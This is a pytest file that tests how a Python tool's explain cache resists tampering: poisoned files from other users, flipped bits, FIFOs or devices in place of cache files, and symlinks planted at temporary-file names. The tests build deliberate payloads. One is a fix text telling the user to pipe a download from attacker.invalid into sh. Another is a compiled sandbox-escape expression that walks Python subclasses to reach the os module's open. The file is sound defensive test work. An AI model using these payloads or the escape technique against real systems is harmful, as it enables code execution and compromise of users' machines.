"""explain's cache is untrusted unless it is the user's own (errkit/explain/cache.py): a cache file
another user wrote (a shared ERRKIT_CACHE_DIR, a restored CI cache, a 1777 folder) is never read,
so it can neither run code nor change an answer; a file altered on disk (a flipped bit) is caught
by its checksum and made again; a FIFO or a device in place of a cache file is not read; a
temporary file is never written through a planted link.

The attacks of issue 48, each failing on the cache before that change. A file by another user
needs root to switch users (CI runs as root): under CI a test that cannot switch fails, never skips."""

import json
import marshal
import os
import random
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from support import ROOT

RA105 = "num_q_heads=12 must be divisible by and num_kv_heads=8"
NOBODY = 65534
HOSTILE_FIX = "run `curl https://attacker.invalid/x | sh` first"


def errkit(*args, cache, timeout=60, **env):
    environ = dict(os.environ, ERRKIT_CACHE_DIR=str(cache), NO_COLOR="1", **env)
    proc = subprocess.run([sys.executable, "-m", "errkit", *args], cwd=ROOT, env=environ, capture_output=True,
                          text=True, timeout=timeout)
    return proc.returncode, proc.stdout, proc.stderr


def need_root():
    if os.geteuid() == 0:
        return
    if os.environ.get("CI"):
        pytest.fail("writing a cache file as another user needs root (CI runs as root)")
    pytest.skip("writing a cache file as another user needs root")


def _index_cache(folder: Path) -> Path:
    (found,) = folder.glob("index-*")
    return found


def _decoded(raw: bytes) -> tuple:
    """(stamp, the prepared index, warnings) of an index cache file (registry.CacheFile's format)."""
    from errkit.explain.registry import CacheFile

    start = len(CacheFile.MAGIC) + CacheFile.LENGTH + 4
    size = int.from_bytes(raw[len(CacheFile.MAGIC):start - 4], "little")
    saved = marshal.loads(raw[start:start + size])
    blob = raw[start + size:]
    data = dict(saved["data"])
    value = lambda where: marshal.loads(blob[where[0]:where[0] + where[1]])  # noqa: E731
    data["entries"] = {code: value(w) for code, w in data["entries"].items()}
    data["wordings"] = [value(w) for w in data["wordings"]]
    data["vetted"] = {code: value(w) for code, w in data["vetted"].items()}
    return saved["stamp"], data, saved["warnings"]


MARKER_CODE = ("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
               ".__init__.__globals__['open']({path!r}, 65)")  # os.open(path, O_WRONLY | O_CREAT): a file made


def _hostile(raw: bytes, marker: Path) -> bytes:
    """The index cache `raw` as an attacker rewrites it, stamp and name kept (both computable by
    anyone): RA105's first fix says to pipe a download to sh, and its compiled expressions create
    `marker` when run (code objects escape any sandbox of builtins)."""
    from errkit.explain.registry import CacheFile

    stamp, data, warnings = _decoded(raw)
    data["entries"]["RA105"]["fixes"][0]["summary"] = HOSTILE_FIX
    evil = compile(MARKER_CODE.format(path=str(marker)), "<cache>", "eval")
    data["vetted"]["RA105"] = {source: (evil, *rest) for source, (_, *rest) in data["vetted"]["RA105"].items()}
    return CacheFile.encode(stamp, data, warnings)


@pytest.fixture(scope="module")
def own_cache(tmp_path_factory) -> bytes:
    """The index cache file a first run makes (its name is the same in every cache folder)."""
    folder = tmp_path_factory.mktemp("own") / "cache"
    code, out, err = errkit("explain", RA105, cache=folder)
    assert code == 0, err
    path = _index_cache(folder)
    return path.name, path.read_bytes()


def _as_nobody(path: Path, data: bytes) -> None:
    """`data` written into `path` by another user (nobody), as a shared cache folder allows."""
    subprocess.run(["dd", f"of={path}", "status=none"], input=data, check=True, user=NOBODY, group=NOBODY)


@pytest.fixture
def shared():
    """A folder every user can reach (pytest's tmp_path is root's alone)."""
    folder = Path(tempfile.mkdtemp(prefix="errkit-shared-"))
    os.chmod(folder, 0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_the_hostile_cache_runs_code_when_trusted(own_cache, tmp_path):
    """The control: the attacker's file, put in the user's own cache folder (as only the user
    could), runs its code and changes the answer. What the tests below refuse is real."""
    name, raw = own_cache
    marker = tmp_path / "ran"
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    (folder / name).write_bytes(_hostile(raw, marker))
    os.chmod(folder / name, 0o600)
    code, out, err = errkit("explain", RA105, cache=folder)
    assert code == 0, err
    assert HOSTILE_FIX in out and marker.exists()


@pytest.mark.parametrize("layout", ["sticky 1777 folder", "folder of another user"])
def test_a_cache_file_of_another_user_is_never_read(layout, own_cache, shared):
    """Root's explain with ERRKIT_CACHE_DIR on a folder another user can write (a shared 1777
    folder, or one that user owns), holding that user's cache file of the right name and stamp:
    the folder is refused with one warning, the answer is computed without it, nothing runs."""
    need_root()
    name, raw = own_cache
    marker = shared / "ran"
    folder = shared / "cache"
    folder.mkdir()
    if layout == "sticky 1777 folder":
        os.chmod(folder, 0o1777)
    else:
        os.chown(folder, NOBODY, NOBODY)
    _as_nobody(folder / name, _hostile(raw, marker))
    home = shared / "home"  # where the cache is made instead (the default folder under XDG_CACHE_HOME)
    code, out, err = errkit("explain", RA105, cache=folder, XDG_CACHE_HOME=str(home))
    assert code == 0, err
    assert HOSTILE_FIX not in out and "nearest valid num_kv_heads: 6, 12" in out
    assert not marker.exists()
    assert err.count("not using the cache folder") == 1 and str(folder) in err, err
    assert (home / "errkit" / name).is_file()  # rebuilt elsewhere
    assert stat.S_IMODE((home / "errkit").stat().st_mode) == 0o700
    assert (folder / name).stat().st_uid == NOBODY  # the other user's file left as it was


def test_a_group_writable_cache_folder_is_refused(own_cache, tmp_path):
    """No other user is needed to see the rule: a folder the group may write is not trusted."""
    name, raw = own_cache
    marker = tmp_path / "ran"
    folder = tmp_path / "cache"
    folder.mkdir()
    os.chmod(folder, 0o770)
    (folder / name).write_bytes(_hostile(raw, marker))
    code, out, err = errkit("explain", RA105, cache=folder, XDG_CACHE_HOME=str(tmp_path / "home"))
    assert code == 0, err
    assert HOSTILE_FIX not in out and not marker.exists() and "writable by its group" in err


def test_a_cache_file_of_another_user_in_an_own_folder_is_not_read(own_cache, tmp_path):
    """The folder is the user's, one file in it is not (root put it there, chown'd): not read."""
    need_root()
    name, raw = own_cache
    marker = tmp_path / "ran"
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    (folder / name).write_bytes(_hostile(raw, marker))
    os.chown(folder / name, NOBODY, NOBODY)
    code, out, err = errkit("explain", RA105, cache=folder)
    assert code == 0, err
    assert HOSTILE_FIX not in out and not marker.exists()


@pytest.mark.parametrize("kind", ["fifo", "link to /dev/zero", "character device"])
def test_a_cache_file_that_is_no_regular_file_is_not_read(kind, own_cache, tmp_path):
    """A FIFO hung explain (an open for reading waits for a writer); /dev/zero was read until
    MemoryError. Neither is read now: the answer comes, the cache is made again elsewhere."""
    name, _ = own_cache
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    path = folder / name
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "link to /dev/zero":
        path.symlink_to("/dev/zero")
    else:
        need_root()
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero's numbers
    code, out, err = errkit("explain", RA105, cache=folder, timeout=20)
    assert code == 0 and "nearest valid num_kv_heads: 6, 12" in out, err


def test_a_temporary_file_is_never_written_through_a_planted_link(own_cache, tmp_path):
    """The cache's temporary file was `<file>.<pid>.tmp`, opened following links: a link planted
    at that name made explain overwrite the file it points to. The pid is known in advance here
    (it stays the same across exec), a link is planted for each cache file's old temporary name."""
    name, _ = own_cache
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    victim = tmp_path / "victim"
    victim.write_text("secret\n")
    os.chmod(victim, 0o600)
    environ = dict(os.environ, ERRKIT_CACHE_DIR=str(folder), NO_COLOR="1")
    child = subprocess.Popen(
        [sys.executable, "-c", "import os, sys; print(os.getpid(), flush=True); sys.stdin.readline(); "
         f"os.execv(sys.executable, [sys.executable, '-m', 'errkit', 'explain', {RA105!r}])"],
        cwd=ROOT, env=environ, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    pid = int(child.stdout.readline())
    for kind_name in {name, *_discovery_names(tmp_path)}:
        (folder / f"{kind_name}.{pid}.tmp").symlink_to(victim)
    out, err = child.communicate("go\n", timeout=60)
    assert child.returncode == 0, err
    assert victim.read_text() == "secret\n"
    assert (folder / name).is_file() and not (folder / name).is_symlink()


def _discovery_names(tmp_path) -> list[str]:
    """The discovery cache's file names (the same in any folder): from a run in a folder of its own."""
    folder = tmp_path / "names"
    errkit("explain", RA105, cache=folder)
    return [p.name for p in folder.iterdir() if not p.name.startswith(".")]


def _answers(texts) -> list:
    from errkit.explain import registry
    from errkit.explain.matching.index import INDEX_FILE, Index
    from errkit.explain.matcher import Matcher

    index = Index(registry.merged_cached(registry.sources(bundled=INDEX_FILE)))
    assert isinstance(index.data.get("blob"), registry.CacheFile)
    matcher = Matcher(index=index)
    return [json.dumps(matcher.explain_text(text), sort_keys=True) for text in texts]


TEXTS = [RA105, "ValueError: head_dim=96 must be a multiple of 64",
         "Traceback (most recent call last):\n  File \"x.py\", line 1, in <module>\nValueError: " + RA105]


def test_a_flipped_bit_never_changes_an_answer(tmp_path, monkeypatch):
    """One flipped bit in 300 copies of the cache served changed text ("This" -> "Ôhis") on every
    later run. Now each value read and the header are checked (CRC-32): a flipped bit anywhere in
    the header or in the values these answers read gives the same answers, and the file is made
    again when the bad part was read."""
    from errkit.explain import cache, registry

    monkeypatch.setenv("ERRKIT_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(cache, "_folders", {})
    clean = _answers(TEXTS)
    path = _index_cache(tmp_path / "cache")
    good = path.read_bytes()
    start = len(registry.CacheFile.MAGIC) + registry.CacheFile.LENGTH + 4
    size = int.from_bytes(good[len(registry.CacheFile.MAGIC):start - 4], "little")
    header = marshal.loads(good[start:start + size])["data"]
    read = [header["entries"]["RA105"], header["vetted"]["RA105"]]  # the pieces RA105's answer reads
    spots = [(start + size + offset, length) for offset, length, _ in read]
    rng = random.Random(48)
    flips = [rng.randrange(8 * start)] + [rng.randrange(8 * start, 8 * (start + size)) for _ in range(6)]
    flips += [8 * rng.randrange(at, at + length) + rng.randrange(8) for at, length in spots for _ in range(6)]
    for bit in flips:
        bad = bytearray(good)
        bad[bit // 8] ^= 1 << (bit % 8)
        path.write_bytes(bytes(bad))
        assert _answers(TEXTS) == clean, f"bit {bit} flipped changed an answer"
        if bit // 8 >= start + size:  # a value: read, found corrupt, the file made again
            assert _whole(path.read_bytes()), f"bit {bit}: the cache was not made again"


def _whole(raw: bytes) -> bool:
    """Whether every part of an index cache file passes its checksum."""
    from zlib import crc32

    from errkit.explain.registry import CacheFile

    start = len(CacheFile.MAGIC) + CacheFile.LENGTH + 4
    size = int.from_bytes(raw[len(CacheFile.MAGIC):start - 4], "little")
    head = raw[start:start + size]
    if crc32(head) != int.from_bytes(raw[start - 4:start], "little"):
        return False
    data, blob = marshal.loads(head)["data"], raw[start + size:]
    pieces = [*data["entries"].values(), *data["wordings"], *data["vetted"].values()]
    return all(crc32(blob[at:at + n]) == crc for at, n, crc in pieces)
